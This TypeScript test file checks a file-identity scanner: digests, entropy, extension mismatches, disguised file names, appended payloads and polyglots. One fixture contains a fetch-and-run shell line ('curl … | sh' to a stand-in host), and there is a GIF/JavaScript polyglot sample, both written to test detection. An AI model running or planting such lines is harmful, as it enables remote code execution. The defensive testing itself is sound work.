import { createHash } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { pdfOf } from '../../../../../test/fixtures/by-hand/pdf-by-hand.ts'
import { windowsProgram } from '../../../../../test/fixtures/files/identity/program-by-hand.ts'
import {
  seededFile,
  strictSource,
  wholeNumbers,
} from '../../../../../test/fixtures/files/identity/seeded-files.ts'
import { roundsOf, seedOf } from '../../../../../test/rounds.ts'
import { runFileTool } from '../../../../../test/run-file-tool.ts'
import { zipPackage } from '../../archive/write-zip.ts'
import { identifyTypes } from '../identify-types.ts'
import type { identityResult } from './identity-result.ts'
import { identityTool } from './identity-tool.ts'

type Identity = ReturnType<ReturnType<typeof identityResult>['parse']>

async function identityOf(content: Uint8Array | string, name = '') {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
  const run = await runFileTool(identityTool, strictSource(bytes), {
    types: identifyTypes(strictSource(bytes), name),
    name,
  })
  return { ...run, data: run.data as Identity }
}

const bytesOf = (...pieces: (Uint8Array | string)[]) =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece)))
const zip = zipPackage(new Map([['a.txt', 'hello']]))
const pdf = pdfOf(['<< /Type /Catalog >>'])
const png = bytesOf(
  '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\0IEND\xaeB`\x82',
)
const gif = bytesOf(
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
)
const jpeg = bytesOf(
  '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xda\0\x02\x11\xff\0\x22\xff\xd0\x33\xff\xd9',
)
const elf = bytesOf('\x7fELF\x02\x01\x01', new Uint8Array(57))
const webp = bytesOf('RIFF\x0c\0\0\0WEBPVP8 \0\0\0\0')
const shell = '#!/bin/sh\necho hello\n'

test('the digests, size and entropy of a file are those of its bytes', async () => {
  const bytes = seededFile(192)
  const { data } = await identityOf(bytes)
  for (const algorithm of ['md5', 'sha1', 'sha256', 'sha512'] as const)
    expect(data[algorithm]).toBe(createHash(algorithm).update(bytes).digest('hex'))
  expect(data.size).toBe(bytes.length)
  // random bytes
  expect(data.entropy).toBeGreaterThan(7.99)
  expect(data.entropy_blocks.length).toBeLessThanOrEqual(256)
  expect(data.entropy_blocks.length).toBe(Math.ceil(bytes.length / data.entropy_block_size))
})

test('entropy is 0 for one byte, 1 for two that alternate, 8 for all, block by block', async () => {
  const half = new Uint8Array(65_536)
  const all = Uint8Array.from({ length: 65_536 }, (_, at) => at & 0xff)
  const two = Uint8Array.from({ length: 65_536 }, (_, at) => at & 1)
  const { data } = await identityOf(bytesOf(half, two, all, all))
  expect(data.entropy_block_size).toBe(1024)
  expect(data.entropy_blocks).toEqual([
    ...Array<number>(64).fill(0),
    ...Array<number>(64).fill(1),
    ...Array<number>(128).fill(8),
  ])
})

test('an empty file has the digests of nothing', async () => {
  const { data, findings } = await identityOf('', 'a.txt')
  expect(data).toMatchObject({
    md5: 'd41d8cd98f00b204e9800998ecf8427e',
    ssdeep: '3::',
    tlsh: null,
    entropy: 0,
    size: 0,
  })
  expect(data.entropy_blocks).toEqual([])
  expect(findings.map(({ code }) => code)).toEqual(['identity.empty'])
})

test('libmagic describes the content', async () => {
  expect((await identityOf(png)).data.magic).toMatch(/^PNG image data, 1 x 1, 8-bit\/color RGB/)
  expect((await identityOf(windowsProgram())).data.magic).toMatch(/^PE32 executable/)
})

describe('a name that disagrees with the content is judged by what would run', () => {
  test.each<[string, Uint8Array | string, string | null]>([
    ['invoice.pdf', windowsProgram(), 'high'],
    ['photo.jpg', windowsProgram(), 'high'],
    ['readme.txt', windowsProgram(), 'high'],
    ['a.docx', `\x7fELF\x02\x01\x01${'\0'.repeat(57)}`, 'high'],
    ['a.pdf', `L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(56)}`, 'high'],
    ['a.pdf', 'Sub A()\nDim a\nSet a = CreateObject("b")\nEnd Sub\n', 'high'],
    ['a.png', shell, 'medium'],
    ['a.pdf', '<html><body>log in</body></html>', 'medium'],
    ['a.doc', '{\\rtf1 a}', null],
    ['a.pdf', '{\\rtf1 a}', 'low'],
    ['a.pdf', png, 'info'],
    ['a.jpg', png, 'info'],
    ['a.txt', '{"a": 1}', null],
    ['a.txt', shell, 'info'],
    ['style.css', windowsProgram(), 'high'],
    ['update.js', windowsProgram(), 'low'],
    ['a.js', '{"a": 1}', null],
    ['a.c', '#include <a.h>\nint a;\n', null],
    ['a.log', '<a><b/></a>', null],
    ['a.sh', shell, null],
    ['a.exe', windowsProgram(), null],
    ['a.dat', windowsProgram(), null],
    ['invoice', windowsProgram(), null],
    ['a.zip', zip, null],
    ['a.whl', zip, null],
    ['a.PNG', png, null],
    ['a.png', '', null],
    ['libc.so.6', `\x7fELF\x02\x01\x01${'\0'.repeat(57)}`, null],
  ])('%s: %#', async (name, content, severity) => {
    const { findings, data } = await identityOf(content, name)
    const found = findings.find(({ code }) => code === 'identity.extension_disagrees')
    expect(found?.severity ?? null).toBe(severity)
    expect(data.extension_disagrees === true).toBe(severity !== null)
  })
})

describe('a name that hides its extension', () => {
  const codesOf = async (name: string) =>
    (await identityOf('x', name)).findings
      .filter(({ code }) => /double|direction|padded/.test(code))
      .map(({ code, severity }) => `${severity} ${code.slice(9)}`)
  test.each<[string, string[]]>([
    ['invoice.pdf.exe', ['high double_extension']],
    ['photo.JPG.scr', ['high double_extension']],
    ['a.docx.lnk', ['high double_extension']],
    ['a.pdf                    .exe', ['high double_extension']],
    ['C:\\in\\a.pdf.exe.', ['high double_extension']],
    ['invoice.pdf.js', ['high double_extension']],
    ['invoice.pdf.html', ['medium double_extension']],
    ['scan.docx.iso', ['medium double_extension']],
    ['notes.txt.html', []],
    ['Invoice 2026                    .exe', ['high padded_extension']],
    ['data.csv.py', []],
    ['a.tar.gz', []],
    ['a.min.js', []],
    ['setup-1.2.exe', []],
    ['report.2024.pdf', []],
    ['pdf.exe', []],
    ['a\u202efdp.exe', ['high direction_override']],
    ['a\u2067b.pdf', ['medium direction_override']],
    ['\u0645\u0644\u0641\u200f.pdf', []],
  ])('%j', async (name, codes) => {
    expect(await codesOf(name)).toEqual(codes)
  })
})

describe('what is behind the end of a format is found, and handed over', () => {
  const script = '#!/bin/sh\ncurl -s http://a.example/x | sh\n'
  test.each<[string, Uint8Array, Uint8Array | string, string, string]>([
    ['a PNG', png, zip, 'zip archive', 'medium'],
    ['a PNG', png, windowsProgram(), 'Windows program', 'high'],
    ['a GIF', gif, script, 'shell script', 'high'],
    ['a JPEG', jpeg, zip, 'zip archive', 'medium'],
    ['a JPEG', jpeg, 'these are some secret words', 'text', 'low'],
    ['a PDF', pdf, windowsProgram(), 'Windows program', 'high'],
    ['an ELF program', elf, zip, 'zip archive', 'info'],
    ['an ELF program', elf, script, 'shell script', 'high'],
    ['a WebP', webp, 'these are some secret words', 'text', 'low'],
    ['a zip', zip, 'these are some secret words', 'text', 'low'],
  ])('behind %s: %#', async (_, carrier, data, type, severity) => {
    const whole = bytesOf(carrier, data)
    const run = await identityOf(whole)
    expect(run.data.appended).toEqual([
      { behind: expect.any(String), offset: carrier.length, size: data.length, type },
    ])
    const found = run.findings.find(({ code }) => code === 'identity.appended_data')
    expect(found).toMatchObject({ severity, offset: carrier.length, length: data.length })
    const [object] = run.objects
    expect(Buffer.from(run.bytesOf.get(object?.sha256 ?? '') ?? [])).toEqual(bytesOf(data))
  })

  test('behind a picture that is a Java archive by what is behind it', async () => {
    const archive = zipPackage(new Map([['META-INF/MANIFEST.MF', 'a']]))
    const { data } = await identityOf(bytesOf(gif, archive))
    expect(data.types.map(({ kind }) => kind)).toEqual(['jar', 'picture', 'zip'])
    expect(data.appended).toMatchObject([
      { offset: gif.length, size: archive.length, type: 'Java archive, zip archive' },
    ])
  })

  test('behind a program it is usual, and its own tool takes it', async () => {
    const program = windowsProgram()
    const { data, findings, objects } = await identityOf(bytesOf(program, zip), 'setup.exe')
    expect(data.appended).toMatchObject([{ offset: program.length, size: zip.length, type: 'zip archive' }])
    expect(findings.every(({ severity }) => severity === 'info')).toBe(true)
    expect(objects).toEqual([])
  })

  test.each<[string, Uint8Array]>([
    ['nothing', png],
    ['line breaks behind a PDF', bytesOf(pdf, '\r\n\r\n')],
    ['zeros behind a picture', bytesOf(jpeg, new Uint8Array(5000))],
    ['a comment of a zip', bytesOf(zip.subarray(0, zip.length - 2), '\x05\0hello')],
    ['a signature of a program', signedProgram()],
  ])('%s is no finding', async (_, content) => {
    const { findings } = await identityOf(content)
    expect(findings.filter(({ code }) => code === 'identity.appended_data')).toEqual([])
  })
})

/** A program whose certificate table lies behind its sections. */
function signedProgram(): Buffer {
  const program = Buffer.from(windowsProgram())
  program.writeUInt32LE(program.length, 88 + 96 + 32)
  program.writeUInt32LE(64, 88 + 96 + 36)
  return Buffer.concat([program, Buffer.alloc(64, 0x30)])
}

test('what is before a PDF document is reported, blanks are not', async () => {
  const before = async (content: Uint8Array) =>
    (await identityOf(content)).findings
      .filter(({ code }) => code === 'identity.prepended_data')
      .map(({ length }) => length)
  expect(await before(bytesOf('junk before it'.repeat(3), pdf))).toEqual([42])
  expect(await before(bytesOf('\r\n'.repeat(30), pdf))).toEqual([])
  expect(await before(Buffer.from(pdf))).toEqual([])
})

test('a file of two types is a polyglot, except where one type is made of the other', async () => {
  const codesOf = async (content: Uint8Array | string) =>
    (await identityOf(content)).findings
      .filter(({ code }) => /polyglot|extracting/.test(code))
      .map(({ code, severity }) => `${severity} ${code.slice(9)}`)
  expect(await codesOf(bytesOf('GIF89a/*', gif.subarray(8), '*/=1;alert(1)'))).toEqual(['high polyglot'])
  expect(await codesOf(bytesOf(jpeg, pdf))).toEqual(['medium polyglot'])
  expect(await codesOf(bytesOf(gif, zipPackage(new Map([['META-INF/MANIFEST.MF', 'a']]))))).toEqual([
    'high polyglot',
  ])
  expect(await codesOf(bytesOf(windowsProgram(), zip))).toEqual(['info self_extracting'])
  const application = '<html><script language="VBScript">MsgBox 1</script></html>'
  expect(await codesOf(bytesOf(windowsProgram(), application))).toEqual(['high polyglot'])
  expect(await codesOf(zipPackage(new Map([['META-INF/MANIFEST.MF', 'a']])))).toEqual([])
  expect(await codesOf(png)).toEqual([])
})

test('altered and cut files of every kind have an identity in less than a second', async () => {
  const next = wholeNumbers(seedOf(3))
  const samples = [
    bytesOf(png, zip),
    bytesOf(gif, zip),
    bytesOf(jpeg, jpeg),
    bytesOf(pdf, zip),
    bytesOf(windowsProgram(), zip),
    signedProgram(),
    zip,
  ]
  for (const sample of samples)
    for (let round = 0; round < roundsOf(15, 1500); round++) {
      const changed = Buffer.from(sample)
      for (let edits = next() % 6; edits >= 0; edits--) changed[next() % changed.length] = next() & 0xff
      const start = performance.now()
      await identityOf(round % 2 === 0 ? changed : changed.subarray(0, next() % changed.length))
      expect(performance.now() - start).toBeLessThan(1000)
    }
})
